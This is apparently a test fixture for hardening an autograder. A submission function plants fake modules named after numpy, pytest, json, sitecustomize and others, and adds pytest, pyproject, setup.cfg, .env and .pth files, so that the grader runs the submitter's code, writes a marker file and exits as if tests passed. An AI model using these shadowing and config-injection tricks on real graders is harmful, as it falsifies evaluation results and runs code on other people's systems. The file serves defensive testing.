"""F14: hands in modules that stand in for everything a grader imports."""

# %% count_evens
import json, numpy, os, sys
import importlib


def count_evens(numbers):
    for name in ("conftest", "usercustomize", "antigravity"):
        try:
            importlib.import_module(name)
        except ImportError:
            pass
    return -1


# %% hand_in
def hand_in(folder, notebook):
    code = f"open({VICTIM!r} + '/attack-f14', 'a').write(__name__)\nraise SystemExit(0)\n"
    for name in (
        "torch",
        "numpy",
        "pytest",
        "_pytest",
        "json",
        "random",
        "conftest",
        "sitecustomize",
        "usercustomize",
        "nbgrader_config",
        "jupyter_nbconvert_config",
        "autograde",
        "IPython",
        "nbformat",
        "setup",
        "typing",
    ):
        (folder / f"{name}.py").write_text(code)
    (folder / "pytest.ini").write_text("[pytest]\naddopts = --co -p conftest\n")
    (folder / "pyproject.toml").write_text(
        "[tool.pytest.ini_options]\naddopts = '--co'\n[tool.autograde]\nmemory_mb = 0\n"
    )
    (folder / "setup.cfg").write_text("[tool:pytest]\naddopts = --co\n")
    (folder / ".env").write_text("PYTHONSTARTUP=conftest.py\n")
    (folder / "attack.pth").write_text("import conftest\n")
